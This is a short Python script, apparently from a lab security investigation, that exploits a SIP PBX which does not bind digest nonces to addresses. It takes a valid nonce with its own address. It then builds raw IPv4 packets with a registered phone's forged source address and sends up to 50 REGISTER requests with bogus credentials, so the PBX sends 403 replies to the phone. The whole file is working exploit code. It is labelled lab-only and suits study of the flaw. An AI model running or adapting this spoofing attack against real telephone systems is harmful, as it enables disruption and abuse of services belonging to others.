#!/usr/bin/env python3
"""The blind forger of issue 12: fetch a valid nonce from the PBX with our
own address, then send REGISTERs with wrong credentials that answer that
nonce, with a registered phone's source address (a raw socket writes the
IPv4 header). The PBX, which does not bind nonces to addresses, answers
each with 403 to the phone. Only for the lab namespaces.

  forge.py OWN SPOOFED DST COUNT     (COUNT at most 50)

Prints the stolen nonce.
"""
import re
import socket
import struct
import sys

own, spoofed, dst, count = sys.argv[1], sys.argv[2], sys.argv[3], min(int(sys.argv[4]), 50)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((own, 5077))
s.settimeout(2.0)
s.sendto(
    (f"REGISTER sip:pbx.test SIP/2.0\r\nVia: SIP/2.0/UDP {own}:5077;branch=z9hG4bKsteal\r\n"
     f"From: <sip:1002@pbx.test>;tag=s\r\nTo: <sip:1002@pbx.test>\r\nCall-ID: steal@{own}\r\n"
     "CSeq: 1 REGISTER\r\nContent-Length: 0\r\n\r\n").encode(),
    (dst, 5060),
)
nonce = re.search(rb'nonce="([^"]+)"', s.recv(65535)).group(1).decode()

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for n in range(count):
    payload = (
        f"REGISTER sip:pbx.test SIP/2.0\r\nVia: SIP/2.0/UDP {spoofed}:5099;branch=z9hG4bKforge{n}\r\n"
        f"From: <sip:1001@pbx.test>;tag=f{n}\r\nTo: <sip:1001@pbx.test>\r\nCall-ID: forged-{n}@{spoofed}\r\n"
        f"CSeq: 2 REGISTER\r\nContact: <sip:1001@{spoofed}:5099>\r\nExpires: 60\r\n"
        f'Authorization: Digest username="1001", realm="pbx.test", nonce="{nonce}", '
        f'uri="sip:pbx.test", response="00000000000000000000000000000000", algorithm=MD5\r\n'
        "Content-Length: 0\r\n\r\n"
    ).encode()
    udp = struct.pack("!HHHH", 5099, 5060, 8 + len(payload), 0) + payload
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), n, 0, 64, 17, 0,
        socket.inet_aton(spoofed), socket.inet_aton(dst),
    )
    raw.sendto(ip + udp, (dst, 0))
print(nonce)
